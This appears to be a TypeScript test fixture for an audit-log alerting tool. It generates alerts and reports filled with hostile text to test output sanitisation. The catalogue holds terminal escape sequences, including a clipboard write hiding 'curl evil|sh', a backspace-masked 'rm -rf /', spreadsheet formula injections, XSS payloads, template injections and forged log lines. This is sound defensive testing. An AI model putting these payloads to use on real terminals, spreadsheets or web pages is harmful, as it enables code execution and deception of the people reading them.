import fc from 'fast-check';
import type { Alert, Report } from '../../src/alerts/model.ts';
import { levels } from '../../src/sinks/describe.ts';
import { alertOf, correlationOf, incidentOf, nodeOf, reportOf } from './sample.ts';

/** Text that an attacker may write into an audit log, by what it tries to do to a reader of our output. */
export const hostileTexts: Readonly<Record<string, string>> = {
  'terminal colour': '\u001b[31mred\u001b[0m',
  'terminal erases the line': 'hidden\u001b[2K\u001b[1Gls',
  'terminal title': '\u001b]0;owned\u0007',
  'terminal link (OSC 8)': '\u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\',
  'terminal clipboard (OSC 52)': '\u001b]52;c;Y3VybCBldmlsfHNo\u0007',
  'terminal answer back': '\u001b[6n\u001b[c\u0005',
  'C1 controls': '\u009b31m\u009d0;x\u009c\u0085\u0090q\u0084',
  'backspaces and bell': 'rm -rf /\b\b\b\b\b\b\b\bls     \u0007\u007f',
  'bidirectional override': 'cat \u202etxt.exe\u202c \u2066x\u2069 \u200f\u061c',
  'zero width': 'who\u200bami\u200d\u2060\ufeff\u00ad\u034f',
  'tags and fillers': '\u{e0041}\u{e007f}\u3164\u115f\ufe0f\u{e0100}',
  separators: 'one\u2028two\u2029three\u000b\u000c',
  newlines: 'first\nsecond\r\nthird\rfourth\t.',
  'NUL and other C0': 'a\u0000b\u0001c\u001fd',
  'lone surrogates': '\ud800 \udfff x\ud83d',
  'astral characters': '🐚 𝒸𝒶𝓉 👩‍💻',
  'formula =': "=cmd|'/c calc'!A0",
  'formula +': '+1+1',
  'formula -': "-2+3+cmd|' /C calc'!A0",
  'formula @': "@SUM(1+1)*cmd|' /C calc'!A0",
  'formula after tab': '\t=1+1',
  'formula after CR': '\r=1+1',
  'formula after blanks': '  \u00a0=HYPERLINK("http://evil.example","x")',
  'formula after quotes': '"=1+1',
  'formula in full width': '＝1+1',
  'formula after a semicolon': 'ls;=1+1; -2;"@x',
  'quotes and commas': '","x"",\'",',
  script: '<script>alert(1)</script>',
  'end of script': '</script><script>alert(2)</script>',
  'end of style': '</style><script>alert(3)</script>',
  'end of title': '</title><img src=x onerror=alert(4)>',
  comment: '--><!--<img src=x onerror=alert(5)>',
  'event handler': '<img src=x onerror="alert(6)">',
  'attribute breakout': '" onmouseover="alert(7)" x="',
  'attribute breakout with single quotes': "' autofocus onfocus='alert(8)' x='",
  'unquoted attribute': 'x onload=alert(9) `',
  svg: '<svg/onload=alert(10)><animate onbegin=alert(11)>',
  link: '<a href="javascript:alert(12)">x</a> javascript:alert(12)',
  frame: '<iframe srcdoc="<script>alert(13)</script>"></iframe><base href="//evil.example/">',
  refresh: '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  entities: '&lt;script&gt;alert(14)&lt;/script&gt; &#0; &amp',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a placeholder is what it is meant to be
  templates: '${alert(15)} {{constructor.constructor("alert(16)")()}} <%= 7*7 %> #{7*7} $& $1 %s %n',
  markdown: '[x](javascript:alert(17)) ![y](https://evil.example/?z) `a` **b** | c |\n# d',
  'forged record': 'x\ntype=SYSCALL msg=audit(1795505781.796:1562): exe="/bin/true" type=EXECVE a0=\'ls\'',
  'forged report': 'x\n━━ Incident 9 of 9\n  Alerts  0',
  prototype: '__proto__ constructor toString',
  'backslash escapes': '\\n \\x1b[31m \\u202e',
};

/** One argument of 1 MiB, as large as an audit log can hold. */
export const hugeText: string = '<=\u001b[31m"A,\n;@'.repeat(90_000).slice(0, 1_048_576);

/** Texts of hostile pieces in any mixture, with any other characters between them. */
export function hostileText(): fc.Arbitrary<string> {
  const piece = fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...Object.values(hostileTexts)) },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 8 }) },
    { weight: 1, arbitrary: fc.constantFrom(' ', ',', ';', '"', "'", '\\', '=', '-', '<', '&', '\u001b', '\n') },
  );
  return fc.array(piece, { minLength: 0, maxLength: 4 }).map((pieces) => pieces.join(''));
}

/** An alert with hostile text wherever text can be, also where our own normaliser would not put it. */
export function hostileAlert(text: fc.Arbitrary<string> = hostileText()): fc.Arbitrary<Alert> {
  const ancestor = fc.record({
    pid: text,
    name: text,
    commandLine: text,
    inferred: fc.constant(true as const),
    reason: text,
  });
  return fc
    .record({
      id: text,
      host: text,
      user: fc.option(text),
      pid: text,
      name: text,
      argv: fc.array(text, { maxLength: 2 }),
      directory: text,
      lineage: fc.array(ancestor, { maxLength: 2 }),
      matched: fc.array(
        fc.record({
          selection: text,
          field: text,
          operator: text,
          pattern: text,
          value: fc.option(text),
          column: text,
        }),
        { maxLength: 2 },
      ),
      rule: fc.record({
        id: text,
        title: text,
        level: fc.constantFrom(...levels),
        tags: fc.array(text, { maxLength: 2 }),
      }),
      excludedBy: fc.option(text),
      correlation: fc.option(text.map(correlationOf)),
      incident: text,
      origin: fc.record({ source: text, offset: fc.nat(), line: fc.nat(), serial: text }),
    })
    .map(({ excludedBy, correlation, ...sketch }) =>
      alertOf({
        time: '2026-11-25T07:36:22.504Z',
        ...sketch,
        ...(excludedBy === null ? {} : { excludedBy }),
        ...(correlation === null ? {} : { correlation }),
      }),
    );
}

/** A report about the alerts, hostile in every other text as well. */
export function hostileReport(alerts: readonly Alert[], text: string): Report {
  const node = nodeOf(text, { name: text, commandLine: text, user: text, alerts: alerts.map(({ id }) => id) });
  const tree = [nodeOf(text, { time: text, children: [node], reparented: true }), node];
  const incident = incidentOf(
    text,
    alerts.filter(({ excludedBy }) => excludedBy === null),
    { host: text, users: [text], root: { pid: text, name: text, commandLine: text }, tree },
  );
  return reportOf({
    hunt: { name: text, title: text },
    rulesHash: text,
    rules: [{ id: text, title: text, level: 'low', path: text, alerts: 1 }],
    exclusions: [{ id: text, title: text, path: text, hidden: 1 }],
    inputs: [{ path: text, format: text, bytes: 1, sha256: text, firstEvent: text, lastEvent: text }],
    incidents: [incident],
    problems: [{ severity: text, code: text, message: text, place: text, help: text }],
    problemsOmitted: 1,
  });
}
